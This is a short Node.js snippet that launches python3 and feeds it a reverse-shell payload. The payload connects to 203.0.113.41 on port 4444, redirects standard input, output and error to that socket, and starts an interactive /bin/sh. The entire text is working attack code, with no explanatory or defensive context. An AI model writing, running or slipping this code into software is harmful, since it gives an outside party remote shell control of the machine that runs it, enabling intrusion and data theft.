const cp = require('child_process');
const p = cp.spawn('python3', ['-']);
p.stdin.write("import socket,os,subprocess\ns=socket.create_connection(('203.0.113.41',4444))\nfor i in range(3): os.dup2(s.fileno(),i)\nsubprocess.call(['/bin/sh','-i'])\n");
p.stdin.end();
